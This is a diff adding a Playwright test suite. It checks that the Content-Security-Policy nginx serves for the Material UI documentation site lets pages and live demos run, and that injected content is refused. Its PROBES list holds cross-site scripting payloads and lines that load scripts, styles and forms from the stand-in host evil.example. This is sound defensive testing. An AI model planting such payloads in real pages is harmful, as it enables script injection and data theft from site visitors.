@@ -1,0 +1,188 @@
+import type { Page } from '@playwright/test';
+import { startNginx, type Nginx } from '../site/harness/startNginx';
+import { followHref, markDocument, waitForRuntime } from './fixtures/page';
+import { settle } from './fixtures/settle';
+import { expect, test as base } from './fixtures/test';
+
+const PAGE = '/material-ui/react-button/';
+/** One page of each kind, and of each language. */
+const KINDS = [
+  '/',
+  PAGE,
+  '/material-ui/components/',
+  '/material-ui/api/button/',
+  '/versions/',
+  '/x/react-data-grid/',
+  '/joy-ui/react-select/',
+  '/experiments/docs/demos/',
+  '/zh/material-ui/react-button/',
+  '/ar/material-ui/react-button/',
+  '/no/such/page/',
+];
+
+interface Watched {
+  readonly page: Page;
+  /** What the security policy has refused, one line each. */
+  readonly refused: string[];
+}
+
+const test = base.extend<{ readonly watched: Watched }, { readonly nginx: Nginx }>({
+  nginx: [
+    async ({}, use) => {
+      const nginx = await startNginx();
+      await use(nginx);
+      await nginx.stop();
+    },
+    { scope: 'worker' },
+  ],
+  watched: async ({ readers }, use) => {
+    const context = await readers.open();
+    const page = await context.newPage();
+    const refused: string[] = [];
+    await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
+    await page.addInitScript(() => {
+      document.addEventListener('securitypolicyviolation', (event) => {
+        const note = (window as unknown as { noteRefusal: (text: string) => void }).noteRefusal;
+        note(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+      });
+    });
+    await use({ page, refused });
+  },
+});
+
+test.describe('under the policy that nginx sends', () => {
+  for (const path of KINDS)
+    test(`${path} runs whole, its demos included, and nothing is refused`, async ({ nginx, watched }) => {
+      const { page, refused } = watched;
+      await page.goto(nginx.origin + path);
+      await waitForRuntime(page);
+      for (const demo of await page.locator('[data-demo]').all()) await demo.scrollIntoViewIfNeeded();
+      await expect(page.locator('[data-demo]:not([data-live])')).toHaveCount(0);
+      // What a demo does right after it was mounted.
+      await settle(page);
+      expect(refused).toEqual([]);
+    });
+
+  test('client navigation between pages of every kind is not refused anything', async ({
+    nginx,
+    watched,
+  }) => {
+    const { page, refused } = watched;
+    await page.goto(`${nginx.origin}/`);
+    await waitForRuntime(page);
+    const expectSameDocument = await markDocument(page);
+    for (const path of [...KINDS.slice(1, 9), '/']) {
+      await followHref(page, path);
+      await page.locator('main h1').waitFor();
+      await settle(page);
+    }
+    await expectSameDocument();
+    expect(refused).toEqual([]);
+  });
+
+  test('an edited demo runs, and what it throws is reported by its words', async ({ nginx, watched }) => {
+    const { page, refused } = watched;
+    await page.goto(nginx.origin + PAGE);
+    await waitForRuntime(page);
+    const demo = page.locator('section[aria-label]').first();
+    await demo.getByRole('button', { name: 'Edit live' }).click();
+    const editor = demo.locator('.pce-textarea');
+    await editor.waitFor({ state: 'attached' });
+    await editor.fill(
+      "export default () => <button onClick={() => { throw new Error('boom'); }}>Press</button>;",
+    );
+    await page.frameLocator('iframe[sandbox]').locator('button', { hasText: 'Press' }).click();
+    await demo.locator('[role="status"]', { hasText: 'boom' }).waitFor();
+    expect(refused).toEqual([]);
+  });
+
+  test('dialogs and menus of demos open', async ({ nginx, watched }) => {
+    const { page, refused } = watched;
+    await page.goto(`${nginx.origin}/material-ui/react-dialog/`);
+    await waitForRuntime(page);
+    const demo = page.locator('[data-demo="DeleteBranchDialog"]');
+    await demo.scrollIntoViewIfNeeded();
+    await page.locator('[data-demo="DeleteBranchDialog"][data-live]').waitFor();
+    await demo.locator('button').first().click();
+    await page.locator('.MuiDialog-root').first().waitFor();
+    expect(refused).toEqual([]);
+  });
+});
+
+/** What an attacker might get into a page's text; each sets `pwned` or asks another host when it works. */
+const PROBES: readonly string[] = [
+  '<script>window.pwned=1</script>',
+  '<script type="module">window.pwned=1</script>',
+  '<img src="/no.png" onerror="window.pwned=1">',
+  '<svg onload="window.pwned=1"></svg>',
+  '<body onpageshow="window.pwned=1">',
+  '<details open ontoggle="window.pwned=1"></details>',
+  '<input autofocus onfocus="window.pwned=1">',
+  '<video><source onerror="window.pwned=1" src="/no"></video>',
+  '<a id="probe" href="javascript:window.pwned=1">x</a>',
+  '<iframe src="javascript:parent.pwned=1"></iframe>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<script src="data:text/javascript,window.pwned=1"></script>',
+  '<script src="//evil.example/x.js"></script>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<base href="https://evil.example/">',
+  '<form id="probe-form" action="https://evil.example/"><input name="a"></form>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<audio src="https://evil.example/a.mp3" preload="auto"></audio>',
+];
+
+test.describe('what is injected into a page', () => {
+  for (const probe of PROBES)
+    test(`is refused: ${probe}`, async ({ nginx, watched }) => {
+      const { page, refused } = watched;
+      const asked: string[] = [];
+      await page.route('https://evil.example/**', async (route) => {
+        asked.push(route.request().url());
+        await route.fulfill({ body: 'window.pwned=1', contentType: 'text/javascript' });
+      });
+      await page.route(nginx.origin + PAGE, async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace('<div id="_0"', `${probe}<div id="_0"`);
+        await route.fulfill({ response, body });
+      });
+      await page.goto(nginx.origin + PAGE);
+      await page.evaluate(() => {
+        document.querySelector<HTMLElement>('#probe')?.click();
+        document.querySelector<HTMLFormElement>('#probe-form')?.submit();
+      });
+      await expect.poll(() => refused.length).toBeGreaterThan(0);
+      await settle(page);
+      const look = () =>
+        page.evaluate(() => ({ pwned: 'pwned' in window, base: new URL(document.baseURI).origin }));
+      await expect.poll(look).toEqual({ pwned: false, base: nginx.origin });
+      expect(asked).toEqual([]);
+    });
+
+  test('cannot make code from text, even from a script of the site', async ({ nginx, watched }) => {
+    const { page, refused } = watched;
+    await page.route('**/probe.js', (route) =>
+      route.fulfill({
+        contentType: 'text/javascript',
+        body: 'window.tried=0;for(const f of [()=>eval("window.pwned=1"),()=>new Function("window.pwned=1")(),()=>setTimeout("window.pwned=1")]){try{f()}catch{}window.tried++}',
+      }),
+    );
+    await page.goto(nginx.origin + PAGE);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = '/probe.js';
+      document.head.append(script);
+    });
+    await page.waitForFunction(() => 'tried' in window && window.tried === 3);
+    // Once for each policy: that of the header and that of the document.
+    await expect.poll(() => refused.length).toBe(6);
+    await settle(page);
+    await expect.poll(() => page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(refused.length).toBe(6);
+  });
+});
